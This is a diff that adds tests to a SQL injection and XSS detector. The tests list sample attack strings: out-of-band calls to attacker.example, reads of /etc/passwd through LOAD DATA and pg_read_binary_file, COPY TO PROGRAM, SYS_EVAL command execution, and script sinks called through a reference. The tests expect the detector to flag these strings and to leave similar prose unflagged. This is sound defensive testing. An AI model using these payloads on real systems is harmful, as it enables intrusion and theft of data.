@@ -315,3 +315,28 @@ describe("SQL injection: quote look-alikes and expression shapes", () => {
     }
   });
 });
+
+describe("time-based and out-of-band functions, and JavaScript sinks called through a reference", () => {
+  it.each([
+    "dblink_connect('host=attacker.example')", "httpuritype('http://attacker.example/').getclob()", "UTL_SMTP.open_connection('10.0.0.1')",
+    "SYS_EVAL('id')", "DBMS_SESSION.SLEEP(5)", "generate_series(1,50000000)", "x'; LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t--",
+    "copy t from '/etc/passwd'", "'; COPY t TO PROGRAM 'nslookup attacker.example'--", "pg_read_binary_file('/etc/passwd')",
+  ])("%s", (s) => {
+    expect(detectSqli(s).rules, s).toContain("sqli.dangerous_function");
+  });
+
+  it("does not flag the same words in prose", () => {
+    for (const s of ["copy files from the share", "Backup database to S3, then copy it to the program folder", "generate a series of reports", "send the dblink docs to Ana"]) {
+      expect(detectSqli(s).flagged, s).toBe(false);
+    }
+  });
+
+  it("flags a sink called through a reference, not the word in text", () => {
+    for (const s of ["(alert)(1)", "(0,eval)`x`", "[1].find(alert)", "a=alert,a(1)", '<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">']) {
+      expect(detectXss(s).flagged, s).toBe(true);
+    }
+    for (const s of ["set an email (alert) (daily)", "x = alert; y(1)", "Use .find(x) to locate a row", "(alert)"]) {
+      expect(detectXss(s).flagged, s).toBe(false);
+    }
+  });
+});
